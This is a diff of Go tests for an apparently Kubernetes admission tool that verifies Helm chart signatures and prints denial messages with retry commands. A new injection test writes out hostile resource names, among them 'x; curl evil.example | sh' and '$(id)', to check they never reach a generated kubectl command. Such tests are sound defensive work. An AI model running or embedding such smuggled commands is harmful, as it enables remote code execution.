@@ -69,17 +69,17 @@ HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/po
   where:    spec.chart.spec
   policy:   ` + wants + `
   found:    1 bundle, 0 legacy signatures
-  found:    attested, which is not signed, by subject release@acme.example, issuer https://issuer.example
+  found:    attested, not signed, by subject release@acme.example, issuer https://issuer.example
   next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA},
 		{"signed by strangers, each named once", unsigned(subject, verdict.Findings{Bundles: 2, Legacy: 1, Evidence: []verdict.Evidence{signedBy(t, "eve@evil.example"), byKey, signedBy(t, "eve@evil.example")}}), `
-HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but by nobody whom the policy allows
+HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not by an identity that the policy allows
   where:    spec.chart.spec
   policy:   ` + wants + `
   found:    2 bundles, 1 legacy signature
   found:    signed by subject eve@evil.example, issuer https://issuer.example, key sha256:` + hexA + `
   next:     have the chart signed by an allowed identity, or ask the platform team to allow this one`},
 		{"signed by one workflow for two repositories", unsigned(subject, verdict.Findings{Bundles: 2, Evidence: []verdict.Evidence{from("https://github.com/acme/a"), from("https://github.com/acme/b"), from("https://github.com/acme/a")}}), `
-HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but by nobody whom the policy allows
+HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` is signed, but not by an identity that the policy allows
   where:    spec.chart.spec
   policy:   ` + wants + `
   found:    2 bundles, 0 legacy signatures
@@ -101,7 +101,7 @@ HelmRelease apps/podinfo denied (TrustRootUnavailable): oci://ghcr.io/acme/chart
   policy:   ` + wants + `
   found:    0 bundles, 7 legacy signatures
   found:    not usable: a, b, c, d, e and 2 more
-  next:     ask the cluster's admin about the trust root that this signature needs (kubectl get trustroots)`},
+  next:     ask the cluster's admin to check the trust root that this signature needs: kubectl get trustroots`},
 		{"a failure outranks what was found", unsigned(subject, verdict.Findings{Bundles: 1, Evidence: []verdict.Evidence{signedBy(t, "eve@evil.example")}, Failure: &chart.Problem{Kind: chart.KindUnavailable, Detail: "ghcr.io does not answer", Next: "try again"}}), `
 HelmRelease apps/podinfo denied (RegistryUnavailable): ghcr.io does not answer
   where:    spec.chart.spec
@@ -129,7 +129,7 @@ HelmRelease apps/podinfo denied (NotPinned): oci://ghcr.io/acme/charts/podinfo:6
   policy:   acme-charts wants pinning Digest
   next:     name the chart's digest (sha256:…): OCIRepository spec.ref.digest, or targetRevision of an Argo CD oci:// source`},
 		{"a version that Argo CD looks up later", verdict.Deny(again, verdict.NotPinnedEnough(again, "acme-charts", chart.Version)), `
-HelmRelease apps/podinfo denied (NotPinned): oci://ghcr.io/acme/charts/podinfo:6.7.1 is not pinned: the sync names no revision, or one that a retry resolves anew, so Argo CD would look it up later, unseen
+HelmRelease apps/podinfo denied (NotPinned): oci://ghcr.io/acme/charts/podinfo:6.7.1 is not pinned: the sync names no revision, or one that a retry resolves again, so Argo CD would look it up later, without the gate
   where:    spec.chart.spec
   policy:   acme-charts wants pinning Version
   next:     sync to a concrete revision, as argocd app sync does, without retry.refresh`},
@@ -141,7 +141,7 @@ HelmRelease apps/podinfo denied (NoPolicy): policy legacy allowed https://charts
 HelmRelease apps/podinfo denied (PolicyInvalid): policy acme-charts, which matches oci://ghcr.io/acme/charts/podinfo:6.7.1, is invalid: require is empty
   where:    spec.chart.spec
   policy:   acme-charts cannot be evaluated
-  next:     ask the platform team to mend the policy; its Ready condition says the same`},
+  next:     ask the platform team to fix the policy; its Ready condition says the same`},
 		{"a problem of the reference", verdict.Deny(at("6.7.1"), verdict.FromError(chart.Invalid("targetRevision is empty").WithNext("set it"))), `
 HelmRelease apps/podinfo denied (ReferenceInvalid): targetRevision is empty
   where:    spec.chart.spec
@@ -163,7 +163,7 @@ HelmRelease apps/podinfo denied (IdentityNotAllowed): oci://ghcr.io/acme/charts/
 		{"no attestation", unsigned(subject, verdict.Findings{
 			Bundles: 1, Evidence: []verdict.Evidence{signedBy(t, "release@acme.example")}, Unmet: []verdict.Unmet{{Predicate: sbom}},
 		}), `
-HelmRelease apps/podinfo denied (AttestationMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no attestation https://spdx.dev/Document by whom the policy wants
+HelmRelease apps/podinfo denied (AttestationMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no attestation https://spdx.dev/Document by an identity that the policy allows
   where:    spec.chart.spec
   policy:   ` + wants + `
   found:    1 bundle, 0 legacy signatures
@@ -177,7 +177,7 @@ HelmRelease apps/podinfo denied (AttestationRejected): oci://ghcr.io/acme/charts
   policy:   ` + wants + `
   found:    1 bundle, 0 legacy signatures
   found:    attested: https://spdx.dev/Document by subject release@acme.example, issuer https://issuer.example
-  next:     mend what the condition names, attest anew and apply again, or ask the platform team about the condition`},
+  next:     fix what the condition names, attest again and apply again, or ask the platform team to change the condition`},
 		{"attestations that could not be verified without the trust root", unsigned(subject, verdict.Findings{
 			Bundles: 1, Rejections: []*verdict.Rejection{rejected(verdict.TrustRootUnavailable, "the TrustRoot corp does not exist")}, Unmet: []verdict.Unmet{{Predicate: sbom}},
 		}), `
@@ -186,7 +186,7 @@ HelmRelease apps/podinfo denied (TrustRootUnavailable): oci://ghcr.io/acme/chart
   policy:   ` + wants + `
   found:    1 bundle, 0 legacy signatures
   found:    not usable: the TrustRoot corp does not exist
-  next:     ask the cluster's admin about the trust root that this signature needs (kubectl get trustroots)`},
+  next:     ask the cluster's admin to check the trust root that this signature needs: kubectl get trustroots`},
 		{"an attestation that is missing because not all could be looked at", unsigned(subject, verdict.Findings{
 			Bundles: 32, Unmet: []verdict.Unmet{{Predicate: sbom}}, Failure: &chart.Problem{Kind: chart.KindLimitExceeded, Detail: "it has 40 bundles", Next: "remove some"},
 		}), `
@@ -198,7 +198,7 @@ HelmRelease apps/podinfo denied (LimitExceeded): it has 40 bundles
 		{"dependencies", verdict.Deny(subject, verdict.DependenciesMissing(subject, []string{`"redis"`, `"mysql"`})), `
 HelmRelease apps/podinfo denied (DependencyMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` declares dependencies that it does not contain: "redis", "mysql"
   where:    spec.chart.spec
-  next:     vendor them before the chart is packaged (helm dependency update), then push and sign it again: whoever fetches them later fetches them unverified`},
+  next:     vendor them before the chart is packaged (helm dependency update), then push and sign it again: what is fetched later is not verified`},
 		{"two policies", verdict.Deny(subject, verdict.Unsigned(subject, wants, verdict.Findings{}), verdict.BrokenPolicy(subject, "other", "require is empty")), `
 HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:` + hexA + ` has no signature
   where:    spec.chart.spec
@@ -207,7 +207,7 @@ HelmRelease apps/podinfo denied (SignatureMissing): oci://ghcr.io/acme/charts/po
   next:     cosign sign ghcr.io/acme/charts/podinfo@sha256:` + hexA + `
   also:     (PolicyInvalid) policy other, which matches oci://ghcr.io/acme/charts/podinfo:6.7.1, is invalid: require is empty
   policy:   other cannot be evaluated
-  next:     ask the platform team to mend the policy; its Ready condition says the same`},
+  next:     ask the platform team to fix the policy; its Ready condition says the same`},
 		{"the zero verdict", verdict.Verdict{}, `
  denied (InternalError): chartgate failed while it decided; its log has the cause
   next:     try again; if it stays so, ask the cluster's admin for chartgate's log`},
@@ -234,10 +234,6 @@ Application x denied (InternalError): chartgate failed while it decided; its log
 			want := strings.TrimPrefix(tc.want, "\n")
 			if diff := cmp.Diff(want, tc.got.Message()); diff != "" {
 				t.Errorf("message (-want +got):\n%s", diff)
-			}
-			headline, _, _ := strings.Cut(want, "\n")
-			if diff := cmp.Diff(headline, tc.got.Headline()); diff != "" {
-				t.Errorf("headline (-want +got):\n%s", diff)
 			}
 		})
 	}
@@ -285,9 +281,16 @@ func TestWarningsAreOneLine(t *testing.T) {
 	}{
 		{
 			"a warning", verdict.Warn(subject, []verdict.Denial{verdict.Unsigned(subject, wants, verdict.Findings{})}, nil),
-			"chartgate would deny this (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " has no signature; next: cosign sign ghcr.io/acme/charts/podinfo@sha256:" + hexA,
+			"chartgate would deny this (SignatureMissing): oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " has no signature; policy: " + wants + "; next: cosign sign ghcr.io/acme/charts/podinfo@sha256:" + hexA,
 		},
-		{"a warning without a hint", verdict.Warn(subject, []verdict.Denial{{Reason: verdict.Timeout, Summary: "no answer", Policy: []string{"acme"}}}, nil), "chartgate would deny this (Timeout): no answer"},
+		{
+			"a warning without a next step gets that of its reason", verdict.Warn(subject, []verdict.Denial{{Reason: verdict.Timeout, Summary: "no answer", Policy: []string{"acme"}}}, nil),
+			"chartgate would deny this (Timeout): no answer; policy: acme; next: try again; if it stays so, ask the cluster's admin to raise webhook.timeoutSeconds (30 at most)",
+		},
+		{
+			"a warning by two policies names both", verdict.Warn(subject, []verdict.Denial{{Reason: verdict.Timeout, Summary: "a", Policy: []string{"one"}, Next: "x"}, {Reason: verdict.NotPinned, Summary: "b", Policy: []string{"two"}, Next: "y"}}, nil),
+			"chartgate would deny this (Timeout): a; policy: one; next: x; also (NotPinned): b; policy: two; next: y",
+		},
 		{
 			"a waiver whose reason is a block of YAML", verdict.Admit(subject, []verdict.Acceptance{{Policy: "legacy", Waiver: "moving\r\nto the new registry\n; until 2027-01-31"}}),
 			"chartgate admitted this unverified: policy legacy allows oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " (moving  to the new registry ; until 2027-01-31)",
@@ -325,7 +328,7 @@ func TestForgedLinesStayInTheirLine(t *testing.T) {
 	want := `HelmRelease apps/podinfo denied (NoPolicy): ` + shown + `
   where:    ` + shown + `
   next:     ` + shown + `
-  also:     (IdentityNotAllowed) oci://ghcr.io/acme/charts/podinfo:>=1 <2 is signed, but by nobody whom the policy allows
+  also:     (IdentityNotAllowed) oci://ghcr.io/acme/charts/podinfo:>=1 <2 is signed, but not by an identity that the policy allows
   policy:   ` + shown + `
   found:    0 bundles, 0 legacy signatures
   found:    signed by subject ` + shown + `, issuer y
@@ -356,9 +359,10 @@ func TestHostileInputGivesAShortMessage(t *testing.T) {
 				wantText(t, verdict.Messages(all), 4096, "\n")
 				for _, v := range all {
 					wantText(t, v.Message(), 4096, "\n")
-					wantText(t, v.Headline(), 4096, "")
+					wantText(t, v.Breaks(text), 4096, "")
+					wantText(t, v.BreaksNote(text, 1024, "kubectl"), 1024, "\n")
 					wantText(t, v.Warning(), 4096, "")
-					wantText(t, v.Note(1024, true), 1024, "\n")
+					wantText(t, v.Note(1024, text), 1024, "\n")
 				}
 			})
 		}
@@ -379,19 +383,23 @@ func TestMessagesOfSeveralVerdictsFollowEachOther(t *testing.T) {
 func TestANoteTellsHowToRetry(t *testing.T) {
 	t.Parallel()
 	denied := verdict.Deny(resolved(t))
-	const hint = "\nOnce mended: kubectl annotate --overwrite the object reconcile.fluxcd.io/requestedAt=\"$(date +%s)\""
-	if diff := cmp.Diff(denied.Message()+hint, denied.Note(1024, true)); diff != "" {
+	const again = `kubectl -n apps annotate --overwrite helmrelease/podinfo reconcile.fluxcd.io/requestedAt="$(date +%s)"`
+	const hint = "\nOnce fixed: " + again
+	if diff := cmp.Diff(again, verdict.Reconcile("HelmRelease", "apps", "podinfo")); diff != "" {
+		t.Errorf("command (-want +got):\n%s", diff)
+	}
+	if diff := cmp.Diff(denied.Message()+hint, denied.Note(1024, again)); diff != "" {
 		t.Errorf("note (-want +got):\n%s", diff)
 	}
-	if diff := cmp.Diff(denied.Message(), denied.Note(1024, false)); diff != "" {
+	if diff := cmp.Diff(denied.Message(), denied.Note(1024, "")); diff != "" {
 		t.Errorf("where nobody retries (-want +got):\n%s", diff)
 	}
-	cut := denied.Note(200, true)
+	cut := denied.Note(200, again)
 	if len(cut) != 200 || !strings.HasSuffix(cut, "…"+hint) || !strings.HasPrefix(cut, "HelmRelease apps/podinfo denied (") {
 		t.Errorf("cut: %q", cut)
 	}
 	covered := verdict.Cover(resolved(t), "acme")
-	if diff := cmp.Diff(covered.Message(), covered.Note(1024, true)); diff != "" {
+	if diff := cmp.Diff(covered.Message(), covered.Note(1024, again)); diff != "" {
 		t.Errorf("of an admission (-want +got):\n%s", diff)
 	}
 }
@@ -415,5 +423,31 @@ func wantText(t *testing.T, s string, limit int, allowed string) {
 	}
 	if i := strings.IndexFunc(s, func(r rune) bool { return !unicode.IsPrint(r) && !strings.ContainsRune(allowed, r) }); i >= 0 {
 		t.Errorf("%q at %d", s[i:min(i+10, len(s))], i)
+	}
+}
+
+// What is no name of Kubernetes' could end the command and begin another.
+func TestCommandsHoldNamesOnly(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{"", "x; curl evil.example | sh", "$(id)", "a b", "x*", "-x", "é", "x\nid"} {
+		for _, got := range []string{verdict.Reconcile("HelmRelease", "apps", name), verdict.Reconcile("HelmRelease", name, "podinfo"), verdict.Reconcile(name, "apps", "podinfo")} {
+			if strings.Contains(got, "kubectl") {
+				t.Errorf("%q: %s", name, got)
+			}
+		}
+	}
+}
+
+// A change of a HelmRepository affects releases that nobody writes now.
+func TestAChangeThatBreaksAnotherObject(t *testing.T) {
+	t.Parallel()
+	broken := verdict.Deny(resolved(t), verdict.Unsigned(resolved(t), wants, verdict.Findings{}))
+	const summary = "oci://ghcr.io/acme/charts/podinfo:6.7.1@sha256:" + hexA + " has no signature"
+	if got := broken.Breaks("this change"); !strings.HasPrefix(got, "this change breaks HelmRelease apps/podinfo: "+summary+" (SignatureMissing); next: ") || strings.Contains(got, "\n") {
+		t.Errorf("warning: %s", got)
+	}
+	note := broken.BreaksNote("the change of HelmRepository apps/acme", 1024, "kubectl x")
+	if !strings.HasPrefix(note, "the change of HelmRepository apps/acme breaks HelmRelease apps/podinfo (SignatureMissing): "+summary+"\n  where: ") || !strings.HasSuffix(note, "\nOnce fixed: kubectl x") {
+		t.Errorf("note: %s", note)
 	}
 }
